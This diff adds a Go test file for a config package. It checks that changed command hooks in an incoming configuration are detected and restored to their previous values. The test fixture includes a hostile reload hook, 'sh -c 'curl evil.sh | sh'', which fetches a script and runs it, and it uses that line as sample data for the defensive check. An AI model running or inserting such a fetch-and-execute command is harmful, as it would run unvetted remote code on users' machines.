@@ -0,0 +1,62 @@
+package config
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestChangedCommands(t *testing.T) {
+	current := map[string]interface{}{
+		"commands": map[string]interface{}{"custom": map[string]interface{}{
+			"term": map[string]interface{}{"command": "kitty"},
+		}},
+		"render": map[string]interface{}{"targets": map[string]interface{}{
+			"kitty": map[string]interface{}{"enabled": true, "reload": "pkill -USR1 kitty"},
+		}},
+	}
+	incoming := map[string]interface{}{
+		"commands": map[string]interface{}{"custom": map[string]interface{}{
+			"term": map[string]interface{}{"command": "kitty"},
+			"new":  map[string]interface{}{"command": "curl", "args": []interface{}{"evil.sh"}},
+		}},
+		"render": map[string]interface{}{"targets": map[string]interface{}{
+			"kitty": map[string]interface{}{"enabled": true, "reload": "sh -c 'curl evil.sh | sh'"},
+			"foot":  map[string]interface{}{"enabled": true, "reload": "touch /tmp/x"},
+			"btop":  map[string]interface{}{"enabled": true},
+		}},
+	}
+
+	want := []string{
+		"commands.custom.new",
+		"render.targets.foot.reload",
+		"render.targets.kitty.reload",
+	}
+	paths := ChangedCommands(current, incoming)
+	if !reflect.DeepEqual(paths, want) {
+		t.Fatalf("ChangedCommands = %v, want %v", paths, want)
+	}
+
+	RestoreCommands(current, incoming, paths)
+	if got := ChangedCommands(current, incoming); len(got) != 0 {
+		t.Errorf("still changed after RestoreCommands: %v", got)
+	}
+	if reload, _ := LookupPath(incoming, "render.targets.kitty.reload"); reload != "pkill -USR1 kitty" {
+		t.Errorf("kitty reload = %v, want the current hook", reload)
+	}
+	if _, ok := LookupPath(incoming, "render.targets.foot.reload"); ok {
+		t.Error("new foot reload hook was not removed")
+	}
+	if enabled, _ := LookupPath(incoming, "render.targets.foot.enabled"); enabled != true {
+		t.Error("RestoreCommands changed more than the hook")
+	}
+}
+
+func TestDescribeCommand(t *testing.T) {
+	def := map[string]interface{}{"command": "notify-send", "args": []interface{}{"hi", "there"}}
+	if got := DescribeCommand(def); got != "notify-send hi there" {
+		t.Errorf("DescribeCommand(def) = %q", got)
+	}
+	if got := DescribeCommand("pkill kitty"); got != "pkill kitty" {
+		t.Errorf("DescribeCommand(hook) = %q", got)
+	}
+}